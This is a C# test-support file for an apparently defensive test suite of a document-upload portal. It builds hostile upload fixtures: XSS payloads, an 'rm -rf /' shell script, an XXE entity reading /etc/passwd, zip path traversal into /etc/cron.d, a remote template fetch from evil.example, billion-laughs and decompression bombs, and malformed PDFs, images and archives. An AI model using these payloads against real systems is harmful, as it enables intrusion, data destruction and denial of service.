using System.Buffers.Binary;
using System.IO.Compression;
using System.Reflection;
using System.Text;

namespace NatoInternships.TestSupport.Documents;

/// <summary>
/// Files that try to break the portal, to hide content, or to run on the machine of a reader, and the harmless ones of
/// <see cref="SampleFiles"/>.
/// </summary>
public static class HostileFiles
{
    private const string Harmless =
        $"{nameof(SampleFiles.Pdf)} {nameof(SampleFiles.PdfWithLink)} {nameof(SampleFiles.PdfWithAttachedData)} {nameof(SampleFiles.PdfAboutJavaScript)} {nameof(SampleFiles.PdfWithWarnings)} {nameof(SampleFiles.PdfWithOwnerPasswordOnly)} "
        + $"{nameof(SampleFiles.Jpeg)} {nameof(SampleFiles.JpegFromPhone)} {nameof(SampleFiles.Png)} {nameof(SampleFiles.Docx)}";

    /// <summary>Files for every upload form. Those that need qpdf are omitted when it is missing.</summary>
    public static IReadOnlyList<HostileFile> All { get; } = [.. OfSamples(), .. Own()];

    private static IEnumerable<HostileFile> OfSamples() =>
        from method in typeof(SampleFiles).GetMethods(BindingFlags.Public | BindingFlags.Static | BindingFlags.DeclaredOnly)
        where method.ReturnType == typeof(byte[]) && method.GetParameters().Length == 0
        where Qpdf.IsAvailable || !(method.Name.Contains("Password", StringComparison.Ordinal))
        let isHarmless = Harmless.Split(' ').Contains(method.Name)
        select new HostileFile(method.Name, (byte[])method.Invoke(null, null)!, isHarmless ? Danger.None : Danger.Certain);

    private static IEnumerable<HostileFile> Own()
    {
        byte[] pdf = SampleFiles.Pdf(), png = SampleFiles.Png(), jpeg = SampleFiles.Jpeg(), docx = SampleFiles.Docx(), zip = SampleFiles.PlainZip();

        yield return new("eleven megabytes", SampleFiles.OfSize(11 * 1024 * 1024), Danger.Certain);
        yield return new("a single byte", [0], Danger.Certain);
        yield return new("a byte order mark", [0xEF, 0xBB, 0xBF], Danger.Certain);
        yield return new("the start of a PDF", "%PDF-"u8.ToArray(), Danger.Certain);
        yield return new("the start of an archive", [.. "PK"u8, 3, 4], Danger.Certain);
        yield return new("the start of a JPEG", [0xFF, 0xD8, 0xFF], Danger.Certain);
        yield return new("the start of a PNG", png[..8], Danger.Certain);
        yield return new("half a PDF", pdf[..(pdf.Length / 2)], Danger.Certain);
        yield return new("half a PNG", png[..(png.Length / 2)], Danger.Certain);
        yield return new("half a JPEG", jpeg[..(jpeg.Length / 2)], Danger.Certain);
        yield return new("half a Word document", docx[..(docx.Length / 2)], Danger.Certain);
        yield return new("a PDF with an archive behind it", [.. pdf, .. zip], Danger.Certain);
        yield return new("an archive with a PDF behind it", [.. zip, .. pdf], Danger.Certain);
        yield return new("a JPEG with a PDF behind it", [.. jpeg, .. pdf], Danger.Certain);
        yield return new("a PNG with a script behind it", [.. png, .. "<script>alert(1)</script>"u8], Danger.Certain);
        yield return new("a GIF that is a script", "GIF89a/*<svg/onload=alert(1)>*/=1;"u8.ToArray(), Danger.Certain);
        yield return new("an SVG", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray(), Danger.Certain);
        yield return new("a web page", "<!doctype html><script>alert(1)</script>"u8.ToArray(), Danger.Certain);
        yield return new("a shell script", "#!/bin/sh\nrm -rf /\n"u8.ToArray(), Danger.Certain);
        yield return new("a test virus", Encoding.ASCII.GetBytes("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + "!$H+H*"), Danger.Certain);
        yield return new("a picture of 61 megapixels", SampleFiles.Png(10_000, 6_100, new byte[9]), Danger.Certain);
        yield return new("a photograph of 61 megapixels", SampleFiles.Jpeg(10_000, 6_100), Danger.Certain);
        yield return new("a picture without width", SampleFiles.Png(0, 8, new byte[9]), Danger.Certain);
        yield return new("a photograph without height", SampleFiles.Jpeg(8, 0), Danger.Possible);
        yield return new("a picture with an endless chunk", [.. png[..8], 0xFF, 0xFF, 0xFF, 0xFF, .. png[12..]], Danger.Certain);
        yield return new("a photograph of empty segments", [0xFF, 0xD8, .. Enumerable.Repeat<byte[]>([0xFF, 0xE1, 0, 0], 1000).SelectMany(one => one), 0xFF, 0xD9], Danger.Certain);
        yield return new("a PDF whose page tree is a ring", Latin(Latin(pdf).Replace("/Kids [3 0 R]", "/Kids [2 0 R]", StringComparison.Ordinal)), Danger.Possible);
        yield return new("a PDF that is nested 50,000 times", new PdfBuilder($"/A {new string('[', 50_000)}{new string(']', 50_000)}").Build(), Danger.Possible);
        yield return new("a PDF of 50,000 open dictionaries", new PdfBuilder().Add(string.Concat(Enumerable.Repeat("<</A", 50_000))).Build(), Danger.Possible);
        yield return new("a PDF that points at itself", new PdfBuilder("/A 4 0 R").Add("4 0 R").Build(), Danger.Possible);
        yield return new("a PDF with cross-references in a ring", Latin(Latin(pdf).Replace("trailer\n<<", "trailer\n<< /Prev 15 /XRefStm 15", StringComparison.Ordinal)), Danger.Possible);
        yield return new("a PDF with a stream of a thousand gigabytes", new PdfBuilder("/Contents 4 0 R").Add("<< /Length 1099511627776 >>\nstream\nx\nendstream").Build(), Danger.Possible);
        yield return new("a PDF with two billion objects", Latin(Latin(pdf).Replace("/Size 4", "/Size 2147483647", StringComparison.Ordinal)), Danger.Possible);
        yield return new("a PDF with a bomb in a stream", new PdfBuilder("/Contents 4 0 R").AddStream("/Filter /FlateDecode", Latin(Deflated(20_000_000))).Build(), Danger.Possible);
        yield return new("a Word document that climbs out of its folder", new DocxBuilder().With("../../../../tmp/evil.sh", "#!/bin/sh").With("/etc/cron.d/evil", "x").With("..\\..\\evil.exe", "MZ").Build(), Danger.Possible);
        yield return new("a Word document of 5,000 parts", Enumerable.Range(0, 5_000).Aggregate(new DocxBuilder(), (file, number) => file.With($"word/media/{number}.bin", "x")).Build(), Danger.Possible);
        yield return new("a Word document that laughs a billion times", new DocxBuilder().With("word/document.xml", Laughs()).Build(), Danger.Certain);
        yield return new("a Word document that reads our files", new DocxBuilder().With("word/document.xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>").Build(), Danger.Certain);
        yield return new("a Word document nested 100,000 times", new DocxBuilder().WithBody(string.Concat(Enumerable.Repeat("<w:p>", 100_000)) + string.Concat(Enumerable.Repeat("</w:p>", 100_000))).Build(), Danger.Possible);
        yield return new("a Word document that fetches a template", new DocxBuilder().WithExternal("attachedTemplate", "http://evil.example/a.dotm").Build(), Danger.Certain);
        yield return new("a Word document inside a Word document", new DocxBuilder().With("word/embeddings/a.docx", docx).Build(), Danger.Possible);
        yield return new("a Word document with a lying length", Lying(docx), Danger.Certain);
    }

    private static string Laughs()
    {
        var text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY a0 \"ha\">");
        for (var level = 1; level < 12; level++)
        {
            text.Append(System.Globalization.CultureInfo.InvariantCulture, $"<!ENTITY a{level} \"{string.Concat(Enumerable.Repeat($"&a{level - 1};", 10))}\">");
        }

        return text.Append("]><a>&a11;</a>").ToString();
    }

    private static byte[] Deflated(int length)
    {
        using var file = new MemoryStream();
        using (var zlib = new ZLibStream(file, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            zlib.Write(new byte[length]);
        }

        return file.ToArray();
    }

    // The first directory entry declares four gigabytes.
    private static byte[] Lying(byte[] docx)
    {
        byte[] file = [.. docx];
        var entry = file.AsSpan().IndexOf("PK\u0001\u0002"u8);
        BinaryPrimitives.WriteUInt32LittleEndian(file.AsSpan(entry + 24), uint.MaxValue - 1);

        return file;
    }

    private static byte[] Latin(string text) => Encoding.Latin1.GetBytes(text);

    private static string Latin(byte[] bytes) => Encoding.Latin1.GetString(bytes);
}
